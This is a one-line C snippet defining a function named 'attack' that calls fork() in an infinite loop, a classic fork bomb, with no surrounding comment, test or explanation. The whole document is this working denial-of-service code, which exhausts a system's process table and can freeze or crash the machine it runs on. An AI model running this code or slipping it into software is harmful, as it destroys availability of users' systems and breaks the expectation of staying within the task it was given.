static void attack(void) { for (;;) fork(); }
